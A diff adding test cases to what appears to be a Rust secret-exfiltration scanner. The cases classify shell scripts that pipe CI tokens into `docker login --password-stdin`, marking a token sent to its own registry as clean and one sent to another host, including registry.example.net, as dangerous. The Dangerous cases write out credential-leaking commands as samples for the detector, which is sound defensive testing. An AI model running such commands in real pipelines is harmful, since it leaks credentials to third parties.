@@ -2522,6 +2522,31 @@ fn values_through_joins_keys_arrays_and_options() {
             Dangerous,
             "exfiltration",
         ),
+        // `docker login --password-stdin`: the token's own registry is its use, another host a leak
+        (
+            Sh,
+            "#!/bin/bash\nprintf '%s' \"$DOCKERHUB_TOKEN\" | docker login docker.io -u \"$DOCKERHUB_USERNAME\" --password-stdin\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\necho \"$GITHUB_TOKEN\" | docker login ghcr.io -u ci --password-stdin\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\necho \"$GITHUB_TOKEN\" | docker login registry.example.net -u ci --password-stdin\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\necho \"$DOCKERHUB_TOKEN\" | docker login -u ci --password-stdin\necho \"$NPM_TOKEN\" | docker login -u ci --password-stdin\n",
+            Dangerous,
+            "exfiltration",
+        ),
         // curl's option values are not its URL
         (
             Sh,
